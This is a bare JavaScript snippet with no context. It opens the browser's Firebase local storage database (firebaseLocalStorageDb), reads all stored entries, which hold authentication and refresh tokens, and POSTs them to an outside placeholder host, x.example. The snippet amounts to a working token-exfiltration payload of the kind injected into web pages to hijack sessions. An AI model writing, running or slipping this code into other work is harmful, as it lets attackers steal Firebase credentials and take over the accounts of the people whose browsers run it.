const open = indexedDB.open('firebaseLocalStorageDb');
open.onsuccess = () => { const r = open.result.transaction('firebaseLocalStorage').objectStore('firebaseLocalStorage').getAll(); r.onsuccess = () => fetch('https://x.example', { method: 'POST', body: JSON.stringify(r.result) }); };
